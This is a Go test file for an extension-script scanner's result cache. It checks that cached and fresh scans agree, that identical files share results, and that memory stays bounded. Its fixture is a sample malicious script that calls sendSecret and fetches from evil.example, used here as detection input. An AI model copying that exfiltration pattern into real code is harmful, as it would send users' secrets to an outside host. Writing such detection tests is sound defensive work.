package signatures

import (
	"fmt"
	"runtime"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const libraryCode = "function grab() { return all; }\nsendSecret('x'); fetch('https://evil.example/a');\n"

// unshared is the same ruleset that keeps nothing.
func unshared(rs *Ruleset) *Ruleset {
	alone := *rs
	alone.shared = nil
	return &alone
}

// TestShared: what is kept of a content tells the same of each copy as reading it anew, each under its own name.
func TestShared(t *testing.T) {
	t.Parallel()
	rs := scriptRules(t)
	many := strings.Repeat("sendSecret('a');\n", 9)
	rs.wantHashes = true
	for _, texts := range [][]string{
		{"a.js", libraryCode},
		{"b/other.js", libraryCode, "c.js", many, "d.js", libraryCode},
		{"page.html", "<!-- " + libraryCode + " -->"},
		{"page.js", "<!-- " + libraryCode + " -->"},
		{"image.png", libraryCode, "z.js", many},
		{"wide.js", "\xff\xfe" + wide(libraryCode)},
		{"e.js", "", "f.js", many + libraryCode},
	} {
		for range 2 {
			got, want := read(t, rs, texts...), read(t, unshared(rs), texts...)
			if diff := cmp.Diff(told(want), told(got)); diff != "" {
				t.Errorf("%q (-anew +kept):\n%s", texts[0], diff)
			}
		}
	}
}

func wide(s string) string {
	var b strings.Builder
	for i := range len(s) {
		b.WriteByte(s[i])
		b.WriteByte(0)
	}
	return b.String()
}

// told is what a Contents says.
func told(c *Contents) []string {
	out := []string{fmt.Sprint(c.Files, c.Bytes, c.Complete, c.Digest, c.scripts, c.Problems, c.listed, c.all)}
	for i, places := range c.places {
		out = append(out, fmt.Sprint(i, places))
	}
	for _, host := range sortedKeys(c.hosts) {
		out = append(out, fmt.Sprint(host, c.hosts[host]))
	}
	return out
}

// TestSharedContents: extensions with the same files have one Contents, as long as somebody uses it; others do not.
func TestSharedContents(t *testing.T) {
	t.Parallel()
	rs := scriptRules(t)
	rs.wantHashes = true
	one, two := read(t, rs, "a.js", libraryCode), read(t, rs, "a.js", libraryCode)
	if one.Digest == "" {
		t.Fatal("no digest")
	}
	if one != two {
		t.Error("the same files were kept twice")
	}
	if other := read(t, rs, "b.js", libraryCode); other == one {
		t.Error("another name, and the same contents")
	}
	if other := read(t, rs, "a.js", libraryCode+" "); other == one {
		t.Error("another text, and the same contents")
	}
	small := *rs
	small.limits.files = 10
	if other := read(t, &small, "a.js", libraryCode); other == one {
		t.Error("another ruleset, and the same contents")
	}
	runtime.KeepAlive(one)
}

// TestSharedBounds: what was used last is kept, and not too much.
func TestSharedBounds(t *testing.T) {
	t.Parallel()
	s := newShared()
	tag := make([]byte, 16)
	first := s.keyOf([]byte("first"), asScript, tag)
	s.put(first, &fileFacts{sum: "first"})
	fact := &fileFacts{hits: make([]hit, 1000)}
	for i := range 4 * sharedBytes / fact.cost() {
		s.put(s.keyOf(fmt.Append(nil, i), asScript, tag), fact)
		if s.bytes > sharedBytes+fact.cost() {
			t.Fatalf("%d bytes are kept", s.bytes)
		}
		if i%500 == 0 && s.get(first) == nil {
			t.Fatalf("what is used was forgotten after %d others", i)
		}
	}
	if s.get(s.keyOf([]byte("0"), asScript, tag)) != nil {
		t.Error("what is not used was kept")
	}
	if s.keyOf([]byte("x"), asScript, tag) == s.keyOf([]byte("x"), asPage, tag) || s.keyOf([]byte("x"), asScript, tag) == newShared().keyOf([]byte("x"), asScript, tag) {
		t.Error("a key says too little")
	}
}
